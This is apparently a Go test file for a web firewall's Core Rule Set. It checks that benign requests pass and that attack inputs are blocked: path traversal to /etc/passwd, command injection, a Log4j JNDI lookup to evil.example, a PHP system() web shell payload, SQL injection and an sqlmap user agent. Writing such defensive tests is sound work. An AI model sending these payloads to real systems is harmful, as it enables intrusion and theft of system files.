package crs_test

import (
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/dropstack/dropstack/internal/edge/waf"
	"github.com/dropstack/dropstack/internal/edge/waf/crs"
)

func TestCoreRuleSet(t *testing.T) {
	f := &waf.Firewall{CRS: &crs.Rules{}}
	tests := []struct {
		name, method, target, contentType, body string
		rule                                    string // that is among its findings; "": let through
	}{
		{"a plain request", "GET", "/a?q=holiday+photos", "", "", ""},
		{"JSON", "POST", "/a", "application/json", `{"title":"It's a start","n":[1,2]}`, ""},
		{"a form", "POST", "/a", "application/x-www-form-urlencoded", "a=b&c=O%27Brien", ""},
		{"a path out of the site", "GET", "/a?file=../../../../etc/passwd", "", "", "930100"},
		{"a command", "GET", "/a?x=%3Bcat+/etc/passwd", "", "", "932160"},
		{"a lookup of Log4j", "GET", "/a?x=%24%7Bjndi:ldap://evil.example/a%7D", "", "", "944150"},
		{"code of PHP", "POST", "/a", "application/x-www-form-urlencoded", "x=%3C%3Fphp+system(%24_GET%5B0%5D)%3B", "933100"},
		{"SQL in JSON", "POST", "/a", "application/json", `{"id":"1' or '1'='1"}`, "942100"},
		{"a scanner", "GET", "/a", "", "", "913100"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest(tt.method, tt.target, strings.NewReader(tt.body))
			r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
			r.Header.Set("Accept", "*/*")
			if tt.name == "a scanner" {
				r.Header.Set("User-Agent", "sqlmap/1.8")
			}
			if tt.contentType != "" {
				r.Header.Set("Content-Type", tt.contentType)
			}
			got := f.Decide(t.Context(), &waf.Request{HTTP: r, Client: netip.MustParseAddr("198.51.100.7"), CRS: true})
			if got.Block != (tt.rule != "") {
				t.Fatalf("got %+v, want rule %q", got, tt.rule)
			}
			if got.Block && (got.Rule != "CRS" || !slices.Contains(got.Labels, "awswaf:managed:owasp:crs:"+tt.rule)) {
				t.Errorf("got %+v, want rule %q", got, tt.rule)
			}
		})
	}
}

func TestWithoutTheRuleSetNothingIsLetThrough(t *testing.T) {
	got := (&waf.Firewall{}).Decide(t.Context(), &waf.Request{HTTP: httptest.NewRequest("GET", "/", nil), CRS: true})
	if !got.Block || got.Status != 500 {
		t.Errorf("got %+v, want it blocked as a mistake of the operator's", got)
	}
}

func BenchmarkGet(b *testing.B) {
	rules := &crs.Rules{}
	r := httptest.NewRequest("GET", "/api/v1/users/42/drops?page=2&sort=created&q=holiday+photos", nil)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
	for b.Loop() {
		if block, _, err := rules.Judge(&waf.Request{HTTP: r, Client: netip.MustParseAddr("198.51.100.7")}, func() string { return "" }); block || err != nil {
			b.Fatal(block, err)
		}
	}
}
